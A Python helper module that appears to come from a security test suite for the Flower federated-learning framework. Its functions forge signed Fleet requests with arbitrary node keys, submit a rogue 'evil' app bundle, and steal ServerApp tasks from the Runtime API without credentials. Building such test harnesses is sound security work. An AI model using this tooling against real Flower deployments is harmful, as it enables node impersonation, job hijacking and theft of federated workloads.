# SPDX-License-Identifier: Apache-2.0
"""What an attacker can build with Flower's own code: signed headers for any node key, every Fleet call, a run, an agent's run, a theft.

Nothing here is ours: it is what anybody who installs Flower has. Calls return the raw answer, whatever it is.
"""

from __future__ import annotations

import hashlib
import ssl
import subprocess
import sys
from base64 import b64encode
from pathlib import Path
from typing import TypeVar

import httpx
from cryptography.hazmat.primitives.asymmetric import ec
from flwr.cli.build import build_fab_from_files
from flwr.common.constant import TIMESTAMP_HEADER
from flwr.proto.control_pb2 import StartRunRequest
from flwr.proto.fab_pb2 import Fab, GetFabRequest
from flwr.proto.fleet_pb2 import (
    ActivateNodeRequest,
    ActivateNodeResponse,
    DeactivateNodeRequest,
    PullMessagesRequest,
    PullMessagesResponse,
    PushMessagesRequest,
    RegisterNodeFleetRequest,
    UnregisterNodeFleetRequest,
)
from flwr.proto.heartbeat_pb2 import SendNodeHeartbeatRequest
from flwr.proto.message_pb2 import (
    ConfirmMessageReceivedRequest,
    Metadata,
    ObjectTree,
    PullObjectRequest,
    PullObjectResponse,
    PushObjectRequest,
)
from flwr.proto.message_pb2 import Message as ProtoMessage
from flwr.proto.node_pb2 import Node
from flwr.proto.recorddict_pb2 import RecordDict as ProtoRecordDict
from flwr.proto.run_pb2 import GetRunRequest
from flwr.proto.runtime_pb2 import AcquireTaskRequest
from flwr.supercore.constant import FLEET_HTTP_PUBLIC_KEY_HEADER, FLEET_HTTP_SIGNATURE_HEADER
from flwr.supercore.control.control_http_client import ControlHttpClient
from flwr.supercore.date import now
from flwr.supercore.interceptors.http.runtime_version import RuntimeVersionHttpInterceptor
from flwr.supercore.primitives.asymmetric import public_key_to_bytes, sign_message
from flwr.supercore.protobuf.constants import PROTOBUF_MEDIA_TYPE as MEDIA_TYPE
from flwr.supercore.runtime_version_compatibility import RuntimeVersionMetadata
from google.protobuf.message import Message

from common.flower_compat.fleet_records import CONTENT
from common.flower_compat.shallow import field_head

Answer = TypeVar("Answer", bound=Message)
APPS = 'serverapp = "evil:app"\nclientapp = "evil:app"\n'
APP_PROJECT = f"""\
[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[project]
name = "evil"
version = "1.0.0"
description = "An app of somebody else."
license = {{ file = "LICENSE" }}
dependencies = ["flwr>=1.41.0"]

[tool.flwr.app]
publisher = "evil"
fab-format-version = 1
flwr-version-target = "1.41.0"

[tool.flwr.app.components]
{APPS}"""

__all__ = [
    "ActivateNodeResponse",
    "FleetAttacker",
    "PullMessagesResponse",
    "PullObjectResponse",
    "acquire_task",
    "app_bundle",
    "asked_from",
    "flwr_app",
    "flwr_command",
    "new_node_key",
    "parsed",
    "start_run",
]


def new_node_key() -> ec.EllipticCurvePrivateKey:
    """A node key as Flower makes it."""
    return ec.generate_private_key(ec.SECP384R1())


def parsed(kind: type[Answer], response: httpx.Response) -> Answer:
    """The body of an answer."""
    message = kind()
    message.ParseFromString(response.content)
    return message


class FleetAttacker:
    """Fleet calls over `http`, signed with `node_key` (which may be anybody's, or left out)."""

    def __init__(self, http: httpx.Client, node_key: ec.EllipticCurvePrivateKey | None, node_id: int = 0) -> None:
        self._http = http
        self._key = node_key
        self.node_id = node_id

    @property
    def public_key(self) -> bytes:
        assert self._key is not None
        return public_key_to_bytes(self._key.public_key())

    def headers(self) -> dict[str, str]:
        """Flower's version headers and the node's signature over the time."""
        headers = {"content-type": MEDIA_TYPE, "accept": MEDIA_TYPE}
        headers |= dict(RuntimeVersionMetadata.from_local_component("SuperNode").as_metadata())
        if self._key is not None:
            stamp = now().isoformat()
            headers[FLEET_HTTP_PUBLIC_KEY_HEADER] = b64encode(self.public_key).decode()
            headers[TIMESTAMP_HEADER] = stamp
            headers[FLEET_HTTP_SIGNATURE_HEADER] = b64encode(sign_message(self._key, stamp.encode("ascii"))).decode()
        return headers

    def post(self, path: str, content: bytes | Message) -> httpx.Response:
        body = content if isinstance(content, bytes) else content.SerializeToString(deterministic=True)
        return self._http.post(f"/v1/fleet/{path}", content=body, headers=self.headers())

    def raw(self, path: str, body: bytes) -> httpx.Response:
        """Any bytes to any path, with the node's signed headers."""
        return self._http.post(path, content=body, headers=self.headers())

    def register(self) -> httpx.Response:
        return self.post("register-node", RegisterNodeFleetRequest(public_key=self.public_key))

    def unregister(self) -> httpx.Response:
        return self.post("unregister-node", UnregisterNodeFleetRequest(node_id=self.node_id))

    def activate(self) -> httpx.Response:
        return self.post("activate-node", ActivateNodeRequest(public_key=self.public_key, heartbeat_interval=30))

    def deactivate(self) -> httpx.Response:
        return self.post("deactivate-node", DeactivateNodeRequest(node_id=self.node_id))

    def heartbeat(self) -> httpx.Response:
        return self.post("send-node-heartbeat", SendNodeHeartbeatRequest(node=self._node, heartbeat_interval=30))

    def pull_messages(self) -> httpx.Response:
        return self.post("pull-messages", PullMessagesRequest(node=self._node))

    def push_messages(self, run_id: int = 1, message_id: str = "1" * 64, reply_to: str = "2" * 64) -> httpx.Response:
        metadata = Metadata(run_id=run_id, message_id=message_id, src_node_id=self.node_id, dst_node_id=1, reply_to_message_id=reply_to)
        metadata.MergeFrom(Metadata(ttl=600.0, created_at=now().timestamp(), message_type="train"))
        trees = [ObjectTree(object_id=message_id)]
        request = PushMessagesRequest(
            node=self._node, messages_list=[ProtoMessage(metadata=metadata, content=ProtoRecordDict())], message_object_trees=trees
        )
        request.clientapp_runtime_list.append(0.1)
        return self.post("push-messages", request)

    def get_run(self, run_id: int) -> httpx.Response:
        return self.post("get-run", GetRunRequest(node=self._node, run_id=run_id))

    def get_fab(self, run_id: int, digest: str) -> httpx.Response:
        return self.post("get-fab", GetFabRequest(node=self._node, hash_str=digest, run_id=run_id))

    def pull_object(self, run_id: int, object_id: str) -> httpx.Response:
        return self.post("pull-object", PullObjectRequest(node=self._node, run_id=run_id, object_id=object_id))

    def push_object(self, run_id: int, object_id: str, content: bytes, session: str = "") -> httpx.Response:
        request = PushObjectRequest(node=self._node, run_id=run_id, object_id=object_id, object_content=content, session_id=session)
        return self.post("push-object", request)

    def object_call(self, run_id: int, object_id: str, content: bytes, session: str) -> bytes:
        """A push-object as our own daemon writes it: the content comes last."""
        facts = PushObjectRequest(node=self._node, run_id=run_id, object_id=object_id, session_id=session)
        return bytes(facts.SerializeToString()) + field_head(PushObjectRequest, CONTENT, len(content)) + content

    def confirm(self, run_id: int, object_id: str) -> httpx.Response:
        return self.post(
            "confirm-message-received", ConfirmMessageReceivedRequest(node=self._node, run_id=run_id, message_object_id=object_id)
        )

    @property
    def _node(self) -> Node:
        return Node(node_id=self.node_id)


def app_bundle(files: dict[str, bytes]) -> bytes:
    """A Flower app bundle with these files, by Flower's own builder: whoever unpacks it finds it good."""
    return build_fab_from_files(dict(files))[0]


def start_run(url: str, context: ssl.SSLContext, bundle: bytes, config: dict[str, str] | None = None, prompt: str = "") -> int:
    """`flwr run` in its essence: submit a bundle to whatever answers at `url`. Raises httpx.HTTPStatusError."""
    from flwr.common.serde import user_config_to_proto

    client = ControlHttpClient(url, interceptors=[RuntimeVersionHttpInterceptor(component_name="flwr CLI")], verify=context)
    fab = Fab(hash_str=hashlib.sha256(bundle).hexdigest(), content=bundle)
    request = StartRunRequest(fab=fab, override_config=user_config_to_proto(config or {}), federation="@none/default", user_prompt=prompt)
    try:
        return int(client.StartRun(request).run_id)
    finally:
        client.close()


def asked_from(http: httpx.Client, path: str) -> tuple[httpx.Response, int]:
    """An answer, and the local port of the connection that it came on: the same port is the same connection."""
    with http.stream("GET", path) as response:
        port = int(response.extensions["network_stream"].get_extra_info("client_addr")[1])
        response.read()
    return response, port


def acquire_task(http: httpx.Client) -> httpx.Response:
    """The theft: ask the Runtime API for a ServerApp task without any secret."""
    headers = {"content-type": MEDIA_TYPE, "accept": MEDIA_TYPE}
    headers |= dict(RuntimeVersionMetadata.from_local_component("SuperExec").as_metadata())
    body = AcquireTaskRequest(supported_task_types=["flwr-serverapp"]).SerializeToString()
    return http.post("/v1/runtime/acquire-task", content=body, headers=headers)


def flwr_app(folder: Path) -> Path:
    """The folder of an app that `flwr run` accepts."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(APP_PROJECT, encoding="utf-8")
    (folder / "LICENSE").write_text("x\n", encoding="utf-8")
    (folder / "evil.py").write_text("from flwr.clientapp import ClientApp\napp = ClientApp()\n", encoding="utf-8")
    return folder


def flwr_command(home: Path, address: str, ca: Path | None, *arguments: str) -> subprocess.CompletedProcess[str]:
    """The stock `flwr` command, as a hospital could run it, with a connection `target` to `address`; without `ca` it goes there bare."""
    trust = "insecure = true" if ca is None else f'root-certificates = "{ca}"'
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(
        f'[superlink]\ndefault = "target"\n\n[superlink.target]\naddress = "{address}"\n{trust}\n', encoding="utf-8"
    )
    from simulations.processes import environment

    return subprocess.run(
        [sys.executable, "-c", "from flwr.cli.app import app; app()", *arguments],
        capture_output=True,
        text=True,
        timeout=120,
        env=environment({"FLWR_HOME": str(home), "FLWR_TELEMETRY_ENABLED": "0", "FLWR_DISABLE_UPDATE_CHECK": "1"}),
    )
